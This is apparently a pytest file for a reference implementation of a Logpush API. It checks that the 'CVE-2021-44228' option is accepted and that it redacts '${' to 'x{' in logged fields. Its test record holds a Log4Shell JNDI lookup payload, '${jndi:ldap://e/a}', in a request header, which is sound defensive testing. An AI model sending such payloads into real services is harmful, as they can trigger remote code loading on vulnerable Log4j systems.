"""The Logpush option `CVE-2021-44228=true` (the provider's Logpush API configuration page:
"replace every occurrence of `${` with `x{`"): a job may be created with it, and its lines are
redacted while a job without it logs `${` as sent. The reference refused the option as unknown
before (its vocabulary spelled the key `CVE-2021-4428`, the provider's OpenAPI spelling of the
output_options member)."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from reference_impl.edge.records import job_line
from reference_impl.mgmt.logpush_checks import check_logpull_options
from reference_impl.profile import Profile

RECORD = {"RayID": "r", "RequestHeaders": {"x-ec-req": "${jndi:ldap://e/a}"}}
FIELDS = "fields=RayID,RequestHeaders"


@pytest.mark.parametrize("flag", ["CVE-2021-44228=true", "CVE-2021-44228=false"])
def test_the_documented_option_is_accepted(flag: str) -> None:
    options = f"{FIELDS}&timestamps=rfc3339&{flag}"
    profile = Profile(dt.date(2025, 1, 1))
    assert check_logpull_options(profile, options, "http_requests") == options


def test_the_flag_redacts_every_occurrence() -> None:
    line = job_line({**RECORD, "ClientRequestURI": "/${a}${b}"}, f"{FIELDS},ClientRequestURI"
                    "&CVE-2021-44228=true")  # fmt: skip
    assert "${" not in line
    entry = json.loads(line)
    assert entry["RequestHeaders"] == {"x-ec-req": "x{jndi:ldap://e/a}"}
    assert entry["ClientRequestURI"] == "/x{a}x{b}"


@pytest.mark.parametrize("options", [FIELDS, f"{FIELDS}&CVE-2021-44228=false"])
def test_without_the_flag_the_value_is_as_sent(options: str) -> None:
    entry = json.loads(job_line(RECORD, options))
    assert entry["RequestHeaders"] == {"x-ec-req": "${jndi:ldap://e/a}"}
